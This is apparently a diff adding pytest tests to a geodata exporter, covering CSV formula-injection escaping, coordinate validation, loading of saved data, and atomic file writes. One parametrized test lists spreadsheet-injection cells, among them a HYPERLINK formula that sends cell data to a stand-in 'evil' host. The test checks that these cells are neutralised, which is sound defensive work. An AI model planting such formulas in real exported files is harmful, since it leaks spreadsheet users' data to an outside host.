@@ -136,3 +136,80 @@ def test_docs_document_every_event_field_and_csv_column():
     assert set(EVENT_FIELDS) | {"year"} <= documented
     for name in ("event_types.csv", "actors.csv", "benchmarks/eval_seeds.py"):
         assert name in section
+
+
+# -- hostile cells and coordinates -----------------------------------------------------------
+
+def _event(result, **changes):
+    from dataclasses import replace
+
+    return replace(result.events[0], **changes)
+
+
+@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil/?"&A2,"Reuters")', "+1+1", "-2+3", "@SUM(1+1)",
+                                  "\tcalc", "\rcalc"])
+def test_csv_neutralises_cells_a_spreadsheet_would_run(result, cell):
+    from dataclasses import replace
+
+    hostile = replace(result, events=(_event(result, source=cell, article_id=cell, notes=cell),))
+    rows = list(csv.DictReader(io.StringIO(to_csv(hostile))))
+    # (A carriage return inside a cell becomes a line feed, so that the cell is quoted.)
+    assert [(r["source"], r["article_id"], r["notes"]) for r in rows] == [("'" + cell.replace("\r", "\n"),) * 3]
+
+
+def test_csv_numbers_stay_numbers(result):
+    from dataclasses import replace
+
+    south_west = replace(result, events=(_event(result, latitude=-33.5, longitude=-70.25, killed_low=3),))
+    row = next(csv.DictReader(io.StringIO(to_csv(south_west))))
+    assert (row["latitude"], row["longitude"], row["killed_low"]) == ("-33.5", "-70.25", "3")
+
+
+@pytest.mark.parametrize("latitude, longitude", [
+    (float("nan"), 44.0), (33.0, float("inf")), ("abc", 44.0), (None, 44.0), (91.0, 44.0), (33.0, -181.0),
+])
+def test_events_without_valid_coordinates_are_left_out_with_a_note(result, latitude, longitude):
+    from dataclasses import replace
+
+    bad = _event(result, latitude=latitude, longitude=longitude)
+    mixed = replace(result, events=(bad, *result.events[1:]))
+    for fmt in ("json", "geojson"):
+        data = json.loads(dumps(mixed, fmt), parse_constant=lambda c: pytest.fail(f"{c} in {fmt}"))
+        ids = [e["event_id"] for e in data["events"]] if fmt == "json" else \
+            [f["properties"]["event_id"] for f in data["features"]]
+        assert ids == [e.event_id for e in result.events[1:]]
+    notes = json.loads(dumps(mixed, "json"))["errors"]
+    assert [n["path"] for n in notes] == [bad.article_id] and bad.event_id in notes[0]["reason"]
+    assert [r["event_id"] for r in csv.DictReader(io.StringIO(to_csv(mixed)))] == \
+        [e.event_id for e in result.events[1:]]
+
+
+def test_a_saved_extraction_with_bad_coordinates_is_read_without_them(result):
+    from geodata.io.export import from_json
+
+    saved = json.loads(dumps(result, "json"))
+    saved["events"][0]["latitude"] = "not a number"
+    saved["events"][1]["longitude"] = float("nan")
+    saved["mentions"][0]["latitude"] = 1e400
+    read = from_json(saved)
+    assert [e.event_id for e in read.events] == [e["event_id"] for e in saved["events"][2:]]
+    assert len(read.mentions) == len(saved["mentions"]) - 1
+    assert len(read.errors) == 3 and any("not a number" in e.reason for e in read.errors)
+    json.loads(dumps(read, "geojson"), parse_constant=lambda c: pytest.fail(c))
+
+
+def test_write_file_is_atomic_and_names_the_file_when_it_fails(tmp_path):
+    from geodata.exc import OutputError
+    from geodata.io.export import write_file
+
+    target = tmp_path / "out.json"
+    target.write_text("old")
+    target.chmod(0o640)
+    write_file(target, "new")
+    assert target.read_text() == "new" and (target.stat().st_mode & 0o777) == 0o640
+    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]  # no temp file left
+    for bad, reason in ((tmp_path / "missing" / "x.json", "no directory"), (tmp_path, "directory")):
+        with pytest.raises(OutputError, match=reason) as caught:
+            write_file(bad, "x")
+        assert str(caught.value).startswith(str(bad)) and "\n" not in str(caught.value)
+    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]
